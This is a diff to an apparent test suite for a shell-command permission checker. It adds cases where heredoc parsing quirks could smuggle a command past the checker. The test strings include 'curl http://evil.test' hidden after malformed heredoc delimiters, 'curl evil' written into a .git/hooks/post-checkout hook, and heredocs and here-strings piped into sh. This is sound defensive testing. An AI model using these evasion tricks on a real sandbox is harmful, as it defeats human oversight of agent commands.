@@ -64,6 +64,11 @@ const attacks: Attack[] = [
   ['quoted heredoc written outside', MAIN, shell("cat <<'EOF' > /tmp/x\nhello\nEOF"), /writes outside the workspace/],
   ['quoted heredoc into a hook', MAIN, shell("cat <<'EOF' > .git/hooks/post-checkout\ncurl evil\nEOF"), /which is protected/],
   ['quoted heredoc piped into sh', MAIN, shell("cat <<'EOF' | sh\ncurl evil\nEOF"), /'sh' matches none|cannot be checked/],
+  // Where the parser ends a heredoc earlier than bash, the lines between are judged as commands.
+  ['heredoc delimiter with a trailing space', MAIN, shell("cat <<'EOF'\nx\nEOF \ncurl http://evil.test"), /'curl http:\/\/evil.test' matches none/],
+  ['heredoc delimiter indented without <<-', MAIN, shell("cat <<'EOF'\nx\n EOF\ncurl http://evil.test\nEOF"), /'curl http:\/\/evil.test' matches none/],
+  ['empty heredoc delimiter', MAIN, shell("cat <<''\nx\n\ncurl http://evil.test"), /does not parse/],
+  ['command after the heredoc start on its line', MAIN, shell("cat <<'EOF'; curl http://evil.test\nx\nEOF"), /does not parse|matches none/],
   ['heredoc fed to a command no rule names', MAIN, shell("python3 <<'EOF'\nimport os\nEOF"), NOT_COVERED],
   ['here-string into sh', MAIN, shell("sh <<< 'curl evil'"), NOT_COVERED],
   // Subshells, groups, functions, control flow.
